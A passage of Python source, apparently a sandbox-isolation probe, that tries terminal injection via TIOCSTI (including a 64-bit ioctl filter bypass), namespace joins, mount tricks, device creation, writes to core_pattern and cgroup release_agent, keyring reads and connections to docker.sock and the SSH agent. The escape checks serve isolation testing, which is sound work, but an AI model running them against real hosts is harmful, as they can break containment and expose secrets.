    near, far = os.pipe()
    fcntl.fcntl(near, 10, signal.SIGIO)  # F_SETSIG
    fcntl.fcntl(near, fcntl.F_SETOWN, -HINTS["group"])
    fcntl.fcntl(near, fcntl.F_SETFL, fcntl.fcntl(near, fcntl.F_GETFL) | os.O_ASYNC)
    os.write(far, b"x")
    raise Sent("SIGIO")


@attempt("signals")
def process_group_of_the_caller() -> Optional[str]:
    """0 is a process group whose leader is outside the PID namespace."""
    found = os.getpgid(0)
    return f"process group {found}" if found == 0 or found == HINTS["group"] else None


@attempt("signals")
def session_of_the_caller() -> Optional[str]:
    found = os.getsid(0)
    return f"session {found}" if found == 0 or found == HINTS["session"] else None


# Terminal


def terminals() -> Iterator[int]:
    for fd in (0, 1, 2):
        if os.isatty(fd):
            yield fd
    for path in ("/dev/tty", "/dev/console", *sorted(glob.glob("/dev/pts/[0-9]*"))):
        with contextlib.suppress(OSError):
            yield os.open(path, os.O_RDWR | os.O_NONBLOCK | os.O_NOCTTY)


def own_terminals(limit: Optional[str] = None) -> List[int]:
    """The terminals to attack; without a run, only the planted one."""
    found = [fd for fd in terminals() if not CONTROL or os.fstat(fd).st_rdev == HINTS["terminal"][1] or fd < 3]
    if not found:
        raise Absent("no terminal")
    return found


def is_the_callers(fd: int) -> bool:
    there = os.fstat(fd)
    if there.st_rdev != os.makedev(5, 0):
        return bool([there.st_dev, there.st_rdev] == HINTS["terminal"])
    return struct.unpack("i", fcntl.ioctl(fd, TIOCGSID, bytes(4)))[0] in (0, HINTS["session"])


def on_terminals(act: Callable[[int], Any]) -> Optional[str]:
    done = []
    error: Optional[OSError] = None
    for fd in own_terminals():
        try:
            act(fd)
            done.append(fd)
        except (OSError, termios.error) as failed:
            error = error or OSError(*failed.args)
    if done:
        owner = "the caller's" if any(is_the_callers(fd) for fd in done) else "another"
        raise Sent(f"on {owner} terminal: {[os.readlink(f'/proc/self/fd/{fd}') for fd in done]}")
    assert error
    raise error


def push(text: str) -> Callable[[int], None]:
    def act(fd: int) -> None:
        for letter in text:
            fcntl.ioctl(fd, termios.TIOCSTI, letter.encode())

    return act


@attempt("terminal")
def type_into_the_callers_terminal() -> Optional[str]:
    return on_terminals(push("typed-by-probe\n"))


@attempt("terminal")
def type_into_the_callers_terminal_with_high_request_bits() -> Optional[str]:
    """A filter that compares 64 bits of the request misses requests that the kernel truncates to 32 bits."""

    def act(fd: int) -> None:
        for letter in b"high-bits\n":
            checked(LIBC.ioctl(fd, ctypes.c_ulong((1 << 32) | termios.TIOCSTI), ctypes.byref(ctypes.c_char(letter))))

    return on_terminals(act)


@attempt("terminal")
def paste_by_the_console_selection() -> Optional[str]:
    """TIOCLINUX, subcode 3, on a virtual console pastes the selection as input."""

    def act(fd: int) -> None:
        checked(LIBC.ioctl(fd, ctypes.c_ulong(termios.TIOCLINUX), ctypes.byref(ctypes.c_char(3))))

    return on_terminals(act)


@attempt("terminal")
def controlling_terminal_opens() -> Optional[str]:
    fd = os.open("/dev/tty", os.O_RDWR | os.O_NONBLOCK)
    same = os.fstat(0).st_dev == HINTS["terminal"][0] and os.fstat(0).st_rdev == HINTS["terminal"][1]
    sid = struct.unpack("i", fcntl.ioctl(fd, TIOCGSID, struct.pack("i", 0)))[0]
    return f"/dev/tty of session {sid}" if same or sid == HINTS["session"] or sid == 0 else None


@attempt("terminal")
def change_modes_of_the_callers_terminal() -> Optional[str]:
    def act(fd: int) -> None:
        modes = termios.tcgetattr(fd)
        modes[6][termios.VEOL] = b"\x05"
        termios.tcsetattr(fd, termios.TCSANOW, modes)

    return on_terminals(act)


@attempt("terminal")
def change_size_of_the_callers_terminal() -> Optional[str]:
    return on_terminals(lambda fd: fcntl.ioctl(fd, termios.TIOCSWINSZ, struct.pack("4H", 77, 177, 0, 0)))


@attempt("terminal")
def become_foreground_of_the_callers_terminal() -> Optional[str]:
    signal.signal(signal.SIGTTOU, signal.SIG_IGN)

    def act(fd: int) -> None:
        before = os.tcgetpgrp(fd)
        os.setpgid(0, 0)
        os.tcsetpgrp(fd, os.getpgid(0))
        with contextlib.suppress(OSError):
            os.tcsetpgrp(fd, before)

    return on_terminals(act)


@attempt("terminal", disturbs=True)
def take_the_callers_terminal_as_controlling() -> Optional[str]:
    fds = own_terminals()
    if os.fork():
        with contextlib.suppress(OSError):
            os.wait()
        raise Sent("TIOCSCTTY")
    os.setsid()
    for fd in fds:
        with contextlib.suppress(OSError):
            fcntl.ioctl(fd, termios.TIOCSCTTY, 1)  # 1: steal it from its session
    os._exit(0)


@attempt("terminal")
def open_the_other_side_of_the_callers_terminal() -> Optional[str]:
    """Try TIOCGPTPEER and other devices of the same devpts."""
    found = [path for path in glob.glob("/dev/pts/[0-9]*") if os.stat(path).st_dev == HINTS["terminal"][0]]
    return each(lambda path: opened(path, os.O_RDWR), found) if found else None


@attempt("terminal", disturbs=True)
def redirect_the_console() -> Optional[str]:
    return on_terminals(lambda fd: fcntl.ioctl(fd, termios.TIOCCONS))


@attempt("terminal")
def hang_up_the_callers_terminal() -> Optional[str]:
    """TIOCVHANGUP needs CAP_SYS_ADMIN, so try only the harmless TIOCGEXCL with it."""
    found = any(struct.unpack("i", fcntl.ioctl(fd, 0x80045440, struct.pack("i", 0)))[0] for fd in own_terminals())
    with open("/proc/self/status") as file:
        effective = int(next(line for line in file if line.startswith("CapEff")).split()[1], 16)
    return f"the capability is effective ({found})" if effective & 1 << 21 and is_the_hosts("user") else None


@attempt("terminal")
def lock_the_callers_terminal() -> Optional[str]:
    """After TIOCEXCL only root can open the terminal. Undone at once."""

    def act(fd: int) -> None:
        there = os.fstat(fd)
        if [there.st_dev, there.st_rdev] != HINTS["terminal"]:
            raise OSError(errno.ENOTTY, "another terminal")
        fcntl.ioctl(fd, termios.TIOCEXCL)
        fcntl.ioctl(fd, termios.TIOCNXCL)

    found = False
    for fd in own_terminals():
        with contextlib.suppress(OSError):
            act(fd)
            found = True
    return "the caller's terminal can be locked" if found else None


# Namespaces


for _number, _kind in (
    (0x10000000, "user"),
    (0x20000, "mnt"),
    (0x20000000, "pid"),
    (0x40000000, "net"),
    (0x8000000, "ipc"),
    (0x4000000, "uts"),
    (0x2000000, "cgroup"),
    (0x80, "time"),
):
    add(
        f"make_a_new_{_kind}_namespace",
        "namespaces",
        lambda number=_number: f"unshare({number:#x}) works" if checked(LIBC.unshare(number)) == 0 else None,
    )

    def _join(kind: str = _kind) -> Optional[str]:
        if not CONTROL and os.stat(f"/proc/1/ns/{kind}").st_ino == os.stat(f"/proc/self/ns/{kind}").st_ino:
            raise Absent("it is our own")
        checked(LIBC.setns(os.open(f"/proc/{target()}/ns/{kind}", os.O_RDONLY), 0))
        return f"joined {kind} of process {target()}"

    add(f"join_the_{_kind}_namespace_of_the_first_process", "namespaces", _join)

    def _same(kind: str = _kind) -> Optional[str]:
        found = os.stat(f"/proc/self/ns/{kind}").st_ino
        return f"{kind}:[{found}] is the host's" if found == HINTS["namespaces"][kind] else None

    add(f"be_in_the_{_kind}_namespace_of_the_host", "namespaces", _same)


@attempt("namespaces")
def make_a_new_user_namespace_by_clone3() -> Optional[str]:
    words = (ctypes.c_uint64 * 11)()
    words[0], words[4] = 0x10000000, signal.SIGCHLD
    made = syscall("clone3", words, ctypes.sizeof(words))
    if made == 0:
        os._exit(0)
    os.waitpid(made, 0)
    return "clone3(CLONE_NEWUSER) works"


@attempt("namespaces")
def make_a_new_user_namespace_by_clone() -> Optional[str]:
    number = {"x86_64": 56, "aarch64": 220}.get(platform.machine())
    if number is None:
        raise Absent("the number of clone is unknown")
    made = checked(LIBC.syscall(ctypes.c_long(number), ctypes.c_long(0x10000000 | signal.SIGCHLD), 0, 0, 0, 0))
    if made == 0:
        os._exit(0)
    os.waitpid(made, 0)
    return "clone(CLONE_NEWUSER) works"


@attempt("namespaces")
def find_namespaces_by_ioctl() -> Optional[str]:
    """NS_GET_USERNS and NS_GET_PARENT return descriptors of parent namespaces."""
    fd = os.open("/proc/self/ns/user", os.O_RDONLY)
    return f"parent: {fcntl.ioctl(fd, 0xB702)}"


@attempt("namespaces")
def be_root_of_the_host() -> Optional[str]:
    """If uid 0 in the run is uid 0 on the host, files in a shared directory belong to root of the host."""
    with open("/proc/self/uid_map") as file:
        words = file.read().split()
    return "uid 0 is the host's uid 0" if os.geteuid() == 0 and words[:2] == ["0", "0"] else None


@attempt("namespaces")
def write_a_uid_map() -> Optional[str]:
    with open("/proc/self/uid_map", "w") as file:
        file.write("0 0 1")
    return "uid_map can be written"


# Mounts


def permitted(call: Callable[[], Any], *denied: int) -> Optional[str]:
    """Make a call with invalid arguments. Errors other than these come after the permission check."""
    try:
        found = call()
    except OSError as failed:
        if failed.errno in (errno.EPERM, errno.EACCES, errno.ENOSYS, *denied):
            raise
        return f"permitted: {failed.strerror}"
    return f"permitted: {found}"


def mounting(source: Optional[bytes], kind: Optional[bytes], flags: int, where: bytes = b"/") -> Callable[[], Any]:
    return lambda: checked(LIBC.mount(source, where, kind, ctypes.c_ulong(flags), None))


add("mount_a_file_system", "mounts", permitted, mounting(b"none", b"no-such-kind", 0))
add("mount_bind", "mounts", permitted, mounting(b"/no/such/source", None, 4096))
add("mount_the_disk", "mounts", permitted, mounting(b"/no/such/disk", b"ext4", 1))
add("mount_make_shared", "mounts", permitted, mounting(None, None, (1 << 20) | (1 << 18)))
add("mount_fsopen", "mounts", permitted, lambda: syscall("fsopen", ctypes.c_char_p(b"tmpfs"), 0))
add("mount_fspick", "mounts", permitted, lambda: syscall("fspick", -100, ctypes.c_char_p(b"/"), 0))
add("mount_open_tree", "mounts", permitted, lambda: syscall("open_tree", -100, ctypes.c_char_p(b"/"), 1 | 0x8000))
add(
    "mount_move",
    "mounts",
    permitted,
    lambda: syscall("move_mount", -1, ctypes.c_char_p(b"x"), -1, ctypes.c_char_p(b"y"), 0),
)
add(
    "mount_set_attributes",
    "mounts",
    permitted,
    lambda: syscall("mount_setattr", -1, ctypes.c_char_p(b"x"), 0, ctypes.create_string_buffer(32), 32),
)
add(
    "pivot_root",
    "mounts",
    permitted,
    lambda: syscall("pivot_root", ctypes.c_char_p(b"/no/such/root"), ctypes.c_char_p(b"/no/such/root")),
)


@attempt("mounts")
def chroot() -> Optional[str]:
    os.chroot("/")
    return "chroot works"


@attempt("mounts", disturbs=True)
def unmount_what_covers_proc_sys() -> Optional[str]:
    checked(LIBC.umount2(b"/proc/sys", 2))
    return opened("/proc/sys/kernel/core_pattern", os.O_WRONLY)


@attempt("mounts", disturbs=True)
def unmount_the_data_to_see_below() -> Optional[str]:
    checked(LIBC.umount2(HINTS["data"].encode(), 2))
    return f"{HINTS['data']} is unmounted"


@attempt("mounts", disturbs=True)
def remount_the_root() -> Optional[str]:
    checked(LIBC.mount(None, b"/", None, ctypes.c_ulong(32 | 4096), None))
    return "/ is remounted"


@attempt("mounts", disturbs=True)
def remount_proc_sys_in_a_new_namespace() -> Optional[str]:
    """A new user namespace gives the capability to mount, but locked mounts must stay locked."""
    checked(LIBC.unshare(0x10000000 | 0x20000))
    checked(LIBC.mount(None, b"/proc/sys", None, ctypes.c_ulong(32 | 4096), None))
    return opened("/proc/sys/kernel/core_pattern", os.O_WRONLY)


@attempt("mounts", disturbs=True)
def mount_proc_in_a_new_namespace() -> Optional[str]:
    checked(LIBC.unshare(0x10000000 | 0x20000))
    checked(LIBC.mount(b"proc", b"/tmp", b"proc", ctypes.c_ulong(0), None))
    return opened("/tmp/sys/kernel/core_pattern", os.O_WRONLY)


@attempt("mounts", disturbs=True)
def mount_cgroups_in_a_new_namespace() -> Optional[str]:
    checked(LIBC.unshare(0x10000000 | 0x20000 | 0x2000000))
    checked(LIBC.mount(b"cgroup2", b"/tmp", b"cgroup2", ctypes.c_ulong(0), None))
    return f"cgroups: {os.listdir('/tmp')[:3]}"


@attempt("mounts", disturbs=True)
def copy_mounts_in_a_new_namespace() -> Optional[str]:
    """A copy of the tree without the mounts of the run shows the directories below them."""
    checked(LIBC.unshare(0x10000000 | 0x20000))
    fd = syscall("open_tree", -100, ctypes.c_char_p(HINTS["data"].encode()), 1 | 0x80000)
    return f"the host's root by a copied mount: descriptor {fd}" if host_root(fd) else None


@attempt("mounts")
def writable_host_file_systems() -> Optional[str]:
    """Mounts of a file system on disk that allow device nodes, which would stay after the run."""
    found = []
    with open("/proc/self/mountinfo") as file:
        for line in file:
            words = line.split()
            source = words[words.index("-") + 2]
            if source.startswith("/dev/") and "rw" in words[5].split(",") and "nodev" not in words[5].split(","):
                found.append(words[4])
    return f"mounted read-write, device nodes allowed: {found[:6]}" if found else None


@attempt("mounts")
def writable_mounts_with_setuid() -> Optional[str]:
    found = []
    with open("/proc/self/mountinfo") as file:
        for line in file:
            words = line.split()
            source = words[words.index("-") + 2]
            if source.startswith("/dev/") and "rw" in words[5].split(",") and "nosuid" not in words[5].split(","):
                found.append(words[4])
    return f"mounted read-write, setuid programs allowed: {found[:6]}" if found else None


# Devices

STARTS_SOMETHING = ("watchdog", "snapshot", "autofs", "ptmx")
for _path in (
    "mem", "kmem", "port", "kmsg", "console", "tty0", "tty1", "vcs", "hpet", "nvram", "rtc0", "cpu/0/msr", "sda", "vda", "nvme0n1",
    "loop-control", "loop0", "mapper/control", "fuse", "kvm", "net/tun", "vhost-net", "vhost-vsock", "vsock", "snapshot",
    "uinput", "uhid", "input/event0", "input/mice", "dri/card0", "fb0", "watchdog", "userfaultfd", "cpu_dma_latency", "autofs",
    "btrfs-control", "ppp", "hwrng", "bus/usb/001/001", "sg0", "vfio/vfio", "udmabuf", "nbd0", "ram0", "binder",
):  # fmt: skip

    def _device(path: str = "/dev/" + _path) -> Optional[str]:
        if not os.path.lexists(path):
            raise Absent("no such device")
        if os.major(os.stat(path).st_rdev) == 136:
            raise Absent("a pseudo-terminal")
        if path.rsplit("/", 1)[1] not in STARTS_SOMETHING:
            return opened(path)
        if not os.access(path, os.R_OK):
            raise PermissionError(errno.EACCES, "not readable")
        return None if os.statvfs(path).f_flag & 4 else f"{path} is readable"

    add(f"device_{_path.replace('/', '_')}", "devices", _device)


def made_device(kind: int, major: int, minor: int) -> Optional[str]:
    directories = [".", "/tmp", "/dev", "/dev/shm", "/var/tmp", os.path.dirname(os.environ.get("REPRO_ENV_NOTES", "./x"))]
    return each(lambda directory: special(directory, kind, major, minor), directories)


add("make_the_hosts_disk", "devices", made_device, stat.S_IFBLK, *HINTS["disk"], disturbs=True)
add("make_physical_memory", "devices", made_device, stat.S_IFCHR, 1, 1, disturbs=True)
add("make_the_kernel_log", "devices", made_device, stat.S_IFCHR, 1, 11, disturbs=True)
add("make_the_console", "devices", made_device, stat.S_IFCHR, 5, 1, disturbs=True)
add("make_fuse", "devices", made_device, stat.S_IFCHR, 10, 229, disturbs=True)
add("make_an_overlay_whiteout", "devices", made_device, stat.S_IFCHR, 0, 0, disturbs=True)


@attempt("devices")
def device_planted_in_the_data() -> Optional[str]:
    path = HINTS["data"] + "/device"
    if not os.path.lexists(path):
        raise Absent("the caller cannot plant one")
    return opened(path)


# Administration of the kernel

for _path in (
    "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/hotplug", "/proc/sys/kernel/hostname",
    "/proc/sys/kernel/randomize_va_space", "/proc/sys/kernel/ns_last_pid", "/proc/sys/kernel/yama/ptrace_scope",
    "/proc/sys/kernel/poweroff_cmd", "/proc/sys/vm/overcommit_memory", "/proc/sys/vm/drop_caches", "/proc/sys/vm/panic_on_oom",
    "/proc/sys/fs/suid_dumpable", "/proc/sys/fs/file-max", "/proc/sys/net/ipv4/ip_forward", "/proc/sys/user/max_user_namespaces",
    "/proc/sysrq-trigger", "/proc/irq/default_smp_affinity", "/proc/acpi/wakeup", "/proc/mtrr", "/proc/latency_stats",
    "/proc/sys/fs/binfmt_misc/register", "/sys/kernel/uevent_helper", "/sys/power/state", "/sys/kernel/mm/ksm/run",
    "/sys/kernel/profiling", "/sys/module/printk/parameters/time", "/sys/firmware/efi/vars", "/sys/kernel/oops_count",
):  # fmt: skip
    add(f"write_{_path[1:].replace('/', '_')}", "kernel", lambda path=_path: settable(path))


NAMESPACED = {"hostname": "uts", "ns_last_pid": "pid", "ip_forward": "net", "max_user_namespaces": "user"}


def settable(path: str) -> Optional[str]:
    if not os.path.lexists(path):
        raise Absent(f"no {path}")
    found = opened(path, os.O_WRONLY)
    kind = NAMESPACED.get(os.path.basename(path))
    return found if kind is None or is_the_hosts(kind) else None


def content_of(path: str) -> Optional[str]:
    if not os.path.lexists(path):
        raise Absent(f"no {path}")
    found = read(path, 4096)
    return f"{len(found)} bytes of {path}" if found else None


for _path in ("/proc/kcore", "/proc/kmsg", "/proc/vmallocinfo", "/proc/slabinfo", "/proc/kpagecount", "/proc/pagetypeinfo"):
    add(f"read_{_path[1:].replace('/', '_')}", "kernel", content_of, _path, disturbs=_path == "/proc/kmsg")


@attempt("kernel")
def addresses_of_the_kernel() -> Optional[str]:
    with open("/proc/kallsyms") as file:
        found = file.readline().split()
    return " ".join(found) if found and int(found[0], 16) else None


@attempt("kernel")
def physical_addresses() -> Optional[str]:
    with open("/proc/iomem") as file:
        found = [line for line in file if not line.strip().startswith("00000000-00000000")]
    return found[0].strip() if found else None


@attempt("kernel")
def hidden_file_systems_of_the_kernel() -> Optional[str]:
    found = [path for path in ("/sys/kernel/debug", "/sys/kernel/tracing", "/sys/fs/bpf", "/sys/kernel/security", "/sys/fs/pstore")
             if os.path.isdir(path) and os.listdir(path)]  # fmt: skip
    return f"{found}" if found else None


def control_groups(name: str, flags: int) -> Optional[str]:
    found = [f"/sys/fs/cgroup/{name}", *glob.glob(f"/sys/fs/cgroup/*/{name}"), *glob.glob(f"/sys/fs/cgroup/*/*/{name}")]
    if not found:
        raise Absent(f"no {name}")
    return each(lambda path: opened(path, flags), found[:40])


for _name in (
    "release_agent",
    "notify_on_release",
    "cgroup.procs",
    "tasks",
    "devices.allow",
    "memory.limit_in_bytes",
    "cgroup.kill",
):
    add(f"cgroup_write_{_name.replace('.', '_')}", "kernel", control_groups, _name, os.O_WRONLY)


@attempt("kernel")
def control_groups_of_others() -> Optional[str]:
    found = []
    for path in glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True)[:40]:
        with contextlib.suppress(OSError), open(path) as file:
            found += [word for word in file.read().split() if word != "0"]
    return f"process numbers of the host: {found[:3]}" if str(HINTS["victim"]) in found else None


@attempt("kernel")
def make_a_control_group() -> Optional[str]:
    def by(path: str) -> Call:
        def make() -> Optional[str]:
            os.mkdir(path + "/probe")
            os.rmdir(path + "/probe")
            return path

        return make

    return any_of(by(path) for path in ["/sys/fs/cgroup", *glob.glob("/sys/fs/cgroup/*/")])


@attempt("kernel")
def kernel_log() -> Optional[str]:
    buffer = ctypes.create_string_buffer(256)
    return f"{syscall('syslog', 3, buffer, 256)} bytes of the kernel's log"


@attempt("kernel", disturbs=True)
def write_to_the_kernel_log() -> Optional[str]:
    return opened("/dev/kmsg", os.O_WRONLY)


def nothing(*words: Any) -> Callable[[], Any]:
    return lambda: syscall(*words)


NOWHERE = ctypes.c_char_p(b"/no/such/file")
add("reboot", "kernel", permitted, nothing("reboot", 1, 2, 3, None))
add("kexec", "kernel", permitted, nothing("kexec_load", 0, 0, None, 0x7FFFFFF0))
add("load_a_module", "kernel", permitted, nothing("init_module", None, 0, None))
add("load_a_module_by_descriptor", "kernel", permitted, nothing("finit_module", -1, None, 0))
add("unload_a_module", "kernel", permitted, nothing("delete_module", ctypes.c_char_p(b"no_such_module"), 2048))
add("swap_on", "kernel", permitted, lambda: checked(LIBC.swapon(b"/no/such/file", 0)))
add("swap_off", "kernel", permitted, lambda: checked(LIBC.swapoff(b"/no/such/file")))
add("process_accounting", "kernel", permitted, nothing("acct", NOWHERE))
add("ports_of_the_processor", "kernel", permitted, nothing("iopl", 3))
add("handle_every_file_event", "kernel", permitted, nothing("fanotify_init", 0x4, 0))
add("load_a_bpf_program", "kernel", permitted, nothing("bpf", 5, ctypes.create_string_buffer(128), 128))
add("make_a_bpf_map", "kernel", permitted, nothing("bpf", 0, ctypes.create_string_buffer(struct.pack("4I", 2, 4, 4, 1), 64), 64))
add("catch_page_faults_of_the_kernel", "kernel", permitted, nothing("userfaultfd", 0))
add("submit_by_io_uring", "kernel", permitted, nothing("io_uring_setup", 1, ctypes.create_string_buffer(120)))
add("quotas", "kernel", lambda: permitted(nothing("quotactl_fd", os.open(".", os.O_RDONLY), 0x80000200, 0, None), errno.ESRCH))


@attempt("kernel")
def count_events_of_every_process() -> Optional[str]:
    words = ctypes.create_string_buffer(struct.pack("IIQ", 1, 128, 0), 128)  # software, processor clock
    return f"perf_event_open of a processor: {syscall('perf_event_open', words, -1, 0, -1, 0)}"


@attempt("kernel")
def count_events_of_the_kernel() -> Optional[str]:
    words = ctypes.create_string_buffer(struct.pack("IIQ", 1, 128, 0), 128)
    return f"perf_event_open of the kernel: {syscall('perf_event_open', words, 0, -1, -1, 0)}"


@attempt("kernel", disturbs=True)
def set_the_clock() -> Optional[str]:
    buffer = ctypes.create_string_buffer(struct.pack("i", 0x4000), 256)  # ADJ_TICK with a tick of 0
    return permitted(lambda: checked(LIBC.adjtimex(buffer)))


@attempt("kernel")
def set_the_host_name() -> Optional[str]:
    found = permitted(lambda: checked(LIBC.sethostname(b"", ctypes.c_size_t(1 << 20))))
    return found if is_the_hosts("uts") else None


# Capabilities

CAPABILITIES = {
    0: "chown", 1: "dac_override", 2: "dac_read_search", 3: "fowner", 4: "fsetid", 5: "kill", 6: "setgid", 7: "setuid",
    8: "setpcap", 9: "linux_immutable", 10: "net_bind_service", 11: "net_broadcast", 12: "net_admin", 13: "net_raw", 14: "ipc_lock",
    15: "ipc_owner", 16: "sys_module", 17: "sys_rawio", 18: "sys_chroot", 19: "sys_ptrace", 20: "sys_pacct", 21: "sys_admin",
    22: "sys_boot", 23: "sys_nice", 24: "sys_resource", 25: "sys_time", 26: "sys_tty_config", 27: "mknod", 28: "lease",
    29: "audit_write", 30: "audit_control", 31: "setfcap", 32: "mac_override", 33: "mac_admin", 34: "syslog", 35: "wake_alarm",
    36: "block_suspend", 37: "audit_read", 38: "perfmon", 39: "bpf", 40: "checkpoint_restore",
}  # fmt: skip


def capability(number: int) -> Optional[str]:
    """A capability only counts in the host's user namespace, because in another one it has no effect on the host."""
    with open("/proc/self/status") as file:
        sets = dict(line.split(":\t") for line in file if line.startswith("Cap"))
    found = [name for name, value in sets.items() if int(value, 16) >> number & 1]
    if found and not is_the_hosts("user"):
        raise Absent(f"{found} in a user namespace of the run")
    return f"in {found}" if found else None


for _number, _name in CAPABILITIES.items():
    add(f"capability_{_name}", "capabilities", capability, _number)


@attempt("capabilities")
def gain_rights_by_setuid_programs() -> Optional[str]:
    """Check PR_GET_NO_NEW_PRIVS."""
    return None if LIBC.prctl(39, 0, 0, 0, 0) == 1 else "no_new_privs is not set"


@attempt("capabilities")
def call_without_a_filter() -> Optional[str]:
    with open("/proc/self/status") as file:
        mode = next((line.split()[1] for line in file if line.startswith("Seccomp:")), "0")
    return "no seccomp filter" if mode == "0" else None


@attempt("capabilities")
def raise_own_capabilities() -> Optional[str]:
    header = struct.pack("Ii", 0x20080522, 0)
    data = struct.pack("6I", 0xFFFFFFFF, 0xFFFFFFFF, 0, 0x1FF, 0x1FF, 0)
    checked(LIBC.capset(header, data))
    return "all capabilities are effective"


@attempt("capabilities")
def become_another_user() -> Optional[str]:
    os.setresuid(12345, 12345, 12345)
    return "uid 12345"


@attempt("capabilities")
def drop_to_another_group() -> Optional[str]:
    os.setgroups([0, 6, 42])
    return f"groups {os.getgroups()}"


@attempt("capabilities")
def be_in_groups_of_the_caller() -> Optional[str]:
    found = [group for group in os.getgroups() if group not in (os.getgid(), 65534)]
    return f"groups {found}" if found else None


@attempt("capabilities")
def first_process_is_dumpable() -> Optional[str]:
    """The files in /proc of a process that is not dumpable belong to root of the host."""
    there = os.stat(f"/proc/{target()}/environ")
    return f"process {target()} is dumpable, uid {there.st_uid}" if there.st_uid == os.getuid() and not CONTROL else None


# Keyrings

SESSION, USER, USER_SESSION, PROCESS_OWN = -3, -4, -5, -2


def key_content(number: int) -> Optional[str]:
    buffer = ctypes.create_string_buffer(256)
    size = syscall("keyctl", 11, number, buffer, 256)  # KEYCTL_READ
    return secret_in(buffer.raw[:size], f"key {number:#x}")


def key_in(ring: int, name: str) -> Optional[str]:
    found = syscall("keyctl", 10, ring, ctypes.c_char_p(b"user"), ctypes.c_char_p(name.encode()), 0)  # KEYCTL_SEARCH
    return key_content(found)


add("key_in_the_session_keyring", "keyrings", lambda: key_in(SESSION, HINTS["key"] + "-session"))
add("key_in_the_user_keyring", "keyrings", lambda: key_in(USER, HINTS["key"] + "-user"))
add("key_in_the_user_session_keyring", "keyrings", lambda: key_in(USER_SESSION, HINTS["key"] + "-user-session"))


@attempt("keyrings")
def key_by_request() -> Optional[str]:
    name = ctypes.c_char_p((HINTS["key"] + "-session").encode())
    return key_content(syscall("request_key", ctypes.c_char_p(b"user"), name, None, 0))


def key_by_number(name: str) -> Optional[str]:
    number = HINTS["keys"].get(name)
    if not number:
        raise Absent("the caller has no such key")
    return key_content(number)


for _name in ("session", "user", "user-session"):
    add(f"key_by_number_{_name.replace('-', '_')}", "keyrings", key_by_number, _name)


@attempt("keyrings")
def link_the_user_keyring() -> Optional[str]:
    syscall("keyctl", 8, USER, SESSION)  # KEYCTL_LINK
    return key_in(SESSION, HINTS["key"] + "-user")


@attempt("keyrings")
def leave_a_key_in_the_user_keyring() -> Optional[str]:
    """Leave a key for the next run or for the caller."""
    name = ctypes.c_char_p((HINTS["key"] + "-left").encode())
    syscall("add_key", ctypes.c_char_p(b"user"), name, ctypes.c_char_p(b"left"), 4, USER)
    raise Sent("a key")


@attempt("keyrings")
def list_keys() -> Optional[str]:
    with open("/proc/keys") as file:
        found = [line for line in file if HINTS["key"] in line and HINTS["key"] + "-left" not in line]
    return found[0].strip() if found else None


@attempt("keyrings")
def list_users_of_keys() -> Optional[str]:
    with open("/proc/key-users") as file:
        found = [line.split(":")[0].strip() for line in file]
    others = [uid for uid in found if uid != str(os.getuid())]
    return f"users {others}" if others or (CONTROL and found) else None


@attempt("keyrings")
def persistent_keyring() -> Optional[str]:
    found = syscall("keyctl", 22, -1, PROCESS_OWN)  # KEYCTL_GET_PERSISTENT
    return f"keyring {found:#x}" if is_the_hosts("user") else None


# System V and POSIX objects


@attempt("ipc")
def shared_memory_of_the_host() -> Optional[str]:
    number = checked(LIBC.shmget(HINTS["ipc"], 0, 0))
    LIBC.shmat.restype = ctypes.c_void_p
    address = LIBC.shmat(number, None, 0o10000)
    if address in (None, ctypes.c_void_p(-1).value):
        checked(-1)
    return secret_in(ctypes.string_at(address, 256), "the segment")


@attempt("ipc")
def semaphores_of_the_host() -> Optional[str]:
    return f"semaphore {checked(LIBC.semget(HINTS['ipc'], 0, 0))}"


@attempt("ipc")
def message_queue_of_the_host() -> Optional[str]:
    return f"queue {checked(LIBC.msgget(HINTS['ipc'], 0))}"


@attempt("ipc")
def posix_message_queue_of_the_host() -> Optional[str]:
    librt = ctypes.CDLL("librt.so.1", use_errno=True)
    return f"queue {checked(librt.mq_open(HINTS['queue'].encode(), os.O_RDONLY | os.O_NONBLOCK))}"


@attempt("ipc")
def list_objects_of_the_host() -> Optional[str]:
    found = [name for name in ("shm", "sem", "msg") if len(read(f"/proc/sysvipc/{name}").splitlines()) > 1]
    return f"{found}" if found else None


# Sockets


def talk(near: socket.socket, address: Any) -> Optional[str]:
    near.settimeout(0.4)
    with near:
        near.connect(address)
        near.sendall(b"probe")
        return secret_in(near.recv(200), f"listener {address!r}") or f"connected to {address!r}"


def unix(address: str) -> Optional[str]:
    return talk(socket.socket(socket.AF_UNIX), address)


add("abstract_socket_of_the_host", "sockets", lambda: unix("\0" + HINTS["abstract"]))
add("socket_in_the_data", "sockets", lambda: unix(HINTS["data"] + "/socket"))
add("socket_in_the_checkpoints", "sockets", lambda: unix(HINTS["checkpoints"] + "/socket"))
add("socket_in_the_project", "sockets", lambda: unix(HINTS["project"] + "/socket"))
add("socket_in_tmp", "sockets", lambda: unix(HINTS["tmp_socket"]))
for _path in (
    "/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/podman/podman.sock",
    "/run/dbus/system_bus_socket", "/run/systemd/private", "/run/systemd/journal/socket", "/dev/log", "/run/systemd/notify",
    "/tmp/.X11-unix/X0", "/run/nscd/socket", "/run/udev/control", "/run/user/0/bus", "/run/snapd.socket",
):  # fmt: skip

    def _at(path: str = _path) -> Optional[str]:
        if not os.path.lexists(path):
            raise Absent("no such socket")
        near = socket.socket(socket.AF_UNIX)
        near.settimeout(0.4)
        try:
            near.connect(path)
        except OSError as failed:
            if failed.errno != errno.EPROTOTYPE:  # a datagram socket exists there
                raise
        return f"{path} answers"

    add(f"socket_{_path[1:].replace('/', '_').replace('.', '_')}", "sockets", _at)


@attempt("sockets")
def docker_socket_by_the_first_process() -> Optional[str]:
    """Use its root and every descriptor, because paths below /proc lead out of the mount namespace."""
    roots = [f"/proc/{target()}/root", *descriptors(target())]
    paths = [f"{root}/{up}{name}" for root in roots for up in ("", "../" * 12) for name in (HINTS["tmp_socket"].lstrip("/"),)]
    return each(unix, paths)


@attempt("sockets")
def agent_of_the_caller() -> Optional[str]:
    path = os.environ.get("SSH_AUTH_SOCK")
    if not path:
        raise Absent("SSH_AUTH_SOCK is not set")
    return unix(path)


def tcp(address: str) -> Optional[str]:
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    return talk(socket.socket(family), (address, HINTS["port"]))


add("tcp_to_loopback_of_the_host", "sockets", tcp, "127.0.0.1")
add("tcp_to_any_address", "sockets", tcp, "0.0.0.0")
